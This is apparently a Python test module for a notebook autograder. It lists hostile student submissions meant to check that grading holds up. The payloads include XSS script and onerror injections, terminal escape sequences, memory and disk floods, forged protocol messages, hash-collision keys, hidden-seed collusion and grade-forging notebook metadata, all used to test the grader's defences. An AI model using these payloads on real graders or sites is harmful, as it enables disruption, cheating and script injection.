    Attack("sow", "leave something for an accomplice who is graded later", "import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\nfor ring in (-3, -4, -5): print(libc.syscall(248, b'user', b'course', b'hostile-seed', 12, ring), ctypes.get_errno())\nfor p in ('/tmp/seed', '/dev/shm/seed', '/course/seed', '/seed', '/var/tmp/seed', '/dev/seed'):\n    try: open(p, 'w').write('hostile-seed')\n    except OSError: pass\nlibc.shmget(4242, 4096, 0o1666); libc.sem_open(b'/seed', 64, 0o777, 1)"),
    Attack("sow, then reap", "find what an accomplice left", "import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\nfor ring in (-3, -4, -5):\n    key = libc.syscall(250, 10, ring, b'user', b'course', 0)\n    text = ctypes.create_string_buffer(100)\n    if key > 0: libc.syscall(250, 11, key, text, 100)\n    print('found:' + text.value.decode())\nprint(*(f'found:hostile {p}' for p in ('/tmp/seed', '/dev/shm/seed', '/course/seed', '/seed', '/var/tmp/seed', '/dev/seed', '/dev/shm/sem.seed') if os.path.exists(p)))\nif libc.shmget(4242, 4096, 0) != -1: print('found:hostile segment')"),
]  # fmt: skip

TALK = [
    Attack("write on every descriptor", "forge messages on whatever is open", "import os\nfor fd in map(int, os.listdir('/proc/self/fd')):\n    try: os.write(fd, b'{\"value\": 0.12}\\n{\"names\": {\"p_BAC\": 0.9}}\\n' * 3)\n    except OSError: pass"),
    Attack("answer before being asked", "send replies in advance", MY_SUBMISSION + "for _ in range(1000): say(b'{\"value\": true}\\n{\"names\": {}}\\n{\"outputs\": [], \"count\": 1}\\n')"),
    Attack("garbage", "break the reader", MY_SUBMISSION + "say(bytes(range(256)) * 10 + b'\\n')"),
    Attack("strange JSON", "break what reads a reply", MY_SUBMISSION + "say(b'[]\\nnull\\n' + b'[' * 10**5 + b'\\n{\"outputs\": 1' + b'0' * 5000 + b'}\\n')"),
    Attack("an endless line", "fill the examiner's memory", MY_SUBMISSION + "while True: say(b'x' * (1 << 20))"),
    Attack("half a line", "keep the examiner waiting", answers={"marginal": MY_SUBMISSION + "def marginal(*a):\n    import time\n    say(b'{\"value\": ')\n    while True:\n        try: time.sleep(1000)\n        except BaseException: pass"}, says="ran for more than"),
    Attack("call back for ever", "keep the examiner answering", answers={"marginal": MY_SUBMISSION + "def marginal(*a):\n    for _ in range(10**5): say(b'{\"callback\": \"0\", \"arguments\": [{\"function\": \"0\"}]}\\n' * 10)"}),
    Attack("millions of small things", "multiply in the examiner's memory", answers={"marginal": MY_SUBMISSION + "def marginal(*a):\n    say(b'{\"value\": [' + b'{},' * (15 << 20) + b'0]}\\n')"}),
    Attack("texts that numpy pads", "multiply in the examiner's memory", answers=functions("return ['x' * 1_000_000] + [''] * 400") | {"p_BAC": "p_BAC = ['x' * 1_000_000] + [''] * 400"}),
    Attack("a message of texts to pad", "multiply in the examiner's memory by a forged array", answers={"marginal": MY_SUBMISSION + "def marginal(*a):\n    say(b'{\"value\": {\"text array\": [\"' + b'x' * 20_000 + b'\"' + b',\"\"' * 100_000 + b']}}\\n')"}),
    Attack("a name of combining marks", "keep the examiner normalising, in C where no alarm rings", answers={"student_name": "student_name = 'a' + '\\u0301\\u0327' * 200_000", "p_mine": "p_mine = 0.1"}),
    Attack("colliding keys", "keep the examiner hashing", answers={"p_BAC": MY_SUBMISSION + "type(me).look_up = lambda self, names: {n: {'set': [k * ((1 << 61) - 1) for k in range(1 << 19)]} for n in names}"}),
    Attack("malformed arrays", "crash the reader of values", MY_SUBMISSION + """
shapes = [{'array': 'AAAA', 'dtype': d, 'shape': s} for d in ('O', 'V8', 'f8,f8', '(9,)f8', '<f8', 'U9', 'm8', 5, None, '') for s in ([-1], [1], [2**62, 0], 'x', [0.5], [1] * 99)]
shapes += [{'tensor': 'Ag==', 'dtype': d, 'shape': [1]} for d in ('bool', 'float64', 'x', None)] + [{'scalar': {'array': 'Ag==', 'dtype': '|b1', 'shape': []}}]
shapes += [{'complex': 1}, {'tuple': 5}, {'set': [[1]]}, {'dict': [1]}, {'dict': [[{'dict': []}, 1]]}, {'bytes': 'é'}, {'float': 'x'}, {'float': [1]}, {'function': {'a': 1}}, {}, {'opaque': {}}, {'text array': {'a': 1}}]
n = [0]
def any_value(*a):
    n[0] += 1
    return shapes[n[0] % len(shapes)]
type(me).look_up = lambda self, names: {name: {'function': '0'} if 'leaks' not in name and 'p_' not in name else any_value() for name in names}
type(me).call = lambda self, m: {'value': any_value(), 'changed': {'0': any_value()}}
"""),
    Attack("outputs of its own making", "crash whoever writes the notebook", MY_SUBMISSION + """
bad = '\\ud800 \\x00'
odd = [{'output_type': t, 'text': v, 'data': {'text/plain': v, bad: v}, 'metadata': {'a': v}, 'name': v, 'ename': v, 'evalue': v, 'traceback': [v], 'execution_count': v} for t in ('stream', 'display_data', 'execute_result', 'error', 'x', None) for v in (5, None, bad, [bad], {'a': [1]}, 1e400, True)]
type(me).run = lambda self, source, seconds: {'outputs': odd + [[]], 'count': 10**4000}
"""),
    Attack("outputs too deep", "crash whoever reads the notebook", MY_SUBMISSION + "deep = '[' * 900 + ']' * 900\nsay(b'{\"count\": 1, \"outputs\": [{\"output_type\": \"display_data\", \"data\": {\"text/plain\": ' + deep.encode() + b'}}]}\\n')"),
    Attack("outputs without end", "fill the grader's disk", MY_SUBMISSION + "type(me).run = lambda self, source, seconds: {'outputs': [{'output_type': 'stream', 'name': 'stdout', 'text': 'x' * (4 << 20)}], 'count': 1}"),
    Attack("pass a descriptor", "hand the examiner open files", MY_SUBMISSION + "import socket\ns = socket.socket(fileno=os.dup(me.writer.raw._sock.fileno()))\nfor _ in range(50): socket.send_fds(s, [b' '], [0] * 50)"),
    Attack("close the line", "make the examiner believe in an end", "import os\nos.closerange(0, 200)", says=""),
]  # fmt: skip

FLOODS = [
    Attack("flood stdout and stderr", "fill the notebook", "import sys\nfor _ in range(100): print('x' * 10**6); print('y' * 10**6, file=sys.stderr)", says=""),
    Attack("flood below Python", "write past the record", "import os\nfor fd in (1, 2):\n    for _ in range(50): os.write(fd, b'x' * 10**6)\nos.system('yes | head -c 50000000')"),
    Attack("flood the display", "a thousand outputs, each large", "from IPython.display import display\nfor _ in range(1000): display({'text/plain': 'x' * 10**5}, raw=True)"),
    Attack("huge repr", "a value with a huge name", "class R:\n    def __repr__(self): return 'r' * 10**8\nR()"),
    Attack("huge message", "an exception of 100 MB", "raise ValueError('x' * 10**8)", answers=functions("raise ValueError('x' * 10**8)", "marginal")),
    Attack("hostile exception", "an exception whose text and name attack", "class E(Exception):\n    def __str__(self): raise SystemExit\nE.__name__ = '\\x1b[2J<script>' * 10\nraise E", answers=functions("class E(Exception):\n    def __str__(self): raise KeyboardInterrupt\nraise E", "marginal") | functions("raise ValueError('\\ud800\\x00\\x1b]0;pwned\\x07\\u202e')", "conditional") | functions("E = type('x' * 10**6, (Exception,), {})\nraise E('\\n' * 10**6)", "joint_from_order") | functions("raise AssertionError('=HYPERLINK(\"http://example.com\")')", "free_parameters") | functions("raise UnicodeDecodeError('utf-8', b'x', 0, 1, '[bold red]pwned[/]')", "joint_probability")),
    Attack("escape sequences", "write to the TA's terminal", "print('\\x1b[2J\\x1b]0;pwned\\x07[bold red]pwned[/]')", change=_text("student_name = '\x1b]0;pwned\x07[red]'\nimport time; time.sleep(0)  # \x1b[2J")),
    Attack("a name for two", "put escape sequences into the report by way of the cell's name", "#\x1b[2J\x1b]0;pwned\x07[bold]\nimport os; os._exit(3)", says="ended its own process"),
    Attack("10 MB of source", "keep the parser busy", "x = [" + "1, " * 3_000_000 + "]"),
    Attack("deeply nested source", "overflow the parser", "x = " + "(" * 100_000 + ")" * 100_000, last="-" * 200_000 + "1"),
    Attack("10 000 cells", "keep everybody busy", change=lambda n: n | {"cells": [*n["cells"], *[code("1", tags=["demo"]), code("2")] * 5_000]}),
    Attack("half a character", "text that no file can hold", change=_text("student_name = '\ud800'\nprint('\ud800\x00')")),
    Attack("a null in the source", "text that no parser takes", change=_text("student_name = 'x'\0\nprint(1)")),
    Attack("binary", "crash the reader", change=_binary, says="not text"),
    Attack("nested JSON", "crash the reader", change=lambda n: b"[" * 10**5, says="nested"),
    Attack("brackets", "fill the reader's memory", change=lambda n: b"[]," * 10**6, says="too many lists"),
    Attack("numbers in JSON", "crash the reader", change=lambda n: b'{"nbformat": 1' + b"0" * 10**4 + b"}", says="not JSON"),
    Attack("an old format", "crash the converter", change=lambda n: json.dumps({"nbformat": 3, "worksheets": [{"cells": [5, None, {"cell_type": []}]}]}).encode(), says="could not be"),
    Attack("no cells at all", "nothing to run", change=lambda n: n | {"cells": [[], 5, {"cell_type": ["code"]}, {"cell_type": "code", "source": {"a": 1}}]}),
]  # fmt: skip

CLAIMS = [
    Attack("worth a billion", "points, locks and tags in the metadata of checks", change=_checks(_generous)),
    Attack("checks as text", "turn checks into markdown that says passed", change=_checks(_markdown)),
    Attack("partial credit", "checks that print their points", change=_checks(_partial_credit)),
    Attack("checks twice", "duplicates of every check, edited", change=_checks(_twice)),
    Attack("decoys", "ordinary cells that claim the checks' ids", change=_decoys),
    Attack("hidden-test markers", "break the feedback of everybody by markers without an end", change=_text("### BEGIN HIDDEN TESTS\nx = 1\n### BEGIN HIDDEN TESTS\n### BEGIN SOLUTION\n=== BEGIN MARK SCHEME ==="), page=True),
    Attack("claims in metadata", "script in tags, ids, attachments and widget state", change=_claims, page=True),
    Attack("raw HTML", "script in text cells", change=_raw_html, page=True),
    Attack("HTML outputs", "script in outputs", page=True, change=outputs_of(
        "from IPython.display import *\nevil = \"</script><script>alert('pwned')</script><img src=x onerror=alert('pwned')>\"\ndisplay(HTML(evil), Javascript(\"alert('pwned')\"), SVG('<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\">' + '<script>alert(1)</script></svg>'), Markdown(evil), Latex('$' + evil), Pretty(evil))",
        "from IPython.display import *\nevil = \"'></script><script>alert('pwned')</script>\"\nfor kind in ('text/html', 'image/png', 'image/jpeg', 'image/svg+xml', 'application/javascript', 'text/latex', 'text/markdown', 'application/json', 'application/pdf', 'application/vnd.jupyter.widget-view+json', 'application/vnd.mathjax+html', 'text/plain', evil):\n    display({kind: evil, 'text/plain': evil}, raw=True, metadata={kind: {'width': evil, 'isolated': True, 'alt': evil}})",
        "print(\"<script>alert('pwned')</script>\\x1b[31m<script>\")\nraise ValueError(\"<script>alert('pwned')</script>\")",
    )),
    Attack("a link", "hand in the solution by a symbolic link", put=_link, says="is a link"),
    Attack("links and a pipe", "keep the reader waiting, or reading for ever", put=_linked_elsewhere, says="folder"),
    Attack("a folder for a notebook", "crash the reader; escape sequences in file names", put=_a_folder, says="folder"),
    Attack("modules beside the notebook", "be imported in place of numpy or the checks", put=_solutions_beside),
    Attack("right with a trick", "an honest answer among tricks still counts", "import builtins\nbuiltins.round = None", answers=ALL_POINTS, earns=HONEST_P_BAC),
]  # fmt: skip

ATTACKS = [*FORGERIES, *SPYING, *ESCAPES, *TALK, *FLOODS, *CLAIMS]


def hand_in_solution(folder: Path, name: str, lesson: Lesson = LESSON) -> None:
    """An honest, complete submission."""
    folder.mkdir(parents=True)
    content = json.dumps(sample_class.solved(lesson, {}, name)).encode()
    (folder / f"{lesson.name}.ipynb").write_bytes(content)


def main() -> None:
    """Grade every attack and print what it intended and what came of it."""
    import tempfile

    from rich.console import Console
    from rich.markup import escape
    from rich.table import Table

    from tests.running.test_hostile import fight, student

    with tempfile.TemporaryDirectory() as folder:
        arena = fight(Path(folder), ATTACKS)
        shown = Table("attack", "intended", "points", "what happened")
        for attack in ATTACKS:
            result = arena.results[student(attack)]
            happened = next((r for r in [*result.remarks, *result.lost.values()] if r != "not attempted"), "nothing")
            shown.add_row(attack.name, escape(attack.intent), f"{result.score:g}", escape(happened[:120]))
        Console().print(shown)
        full = sum(arena.results[who].score == arena.results[who].maximum for who in arena.honest)
        print(
            f"{len(ATTACKS)} attacks in {arena.seconds:.0f} s; {full} of {len(arena.honest)} honest students full points."
        )


if __name__ == "__main__":
    from tests.running import attacks  # As the tests know this module: its attacks are then the same objects.

    attacks.main()
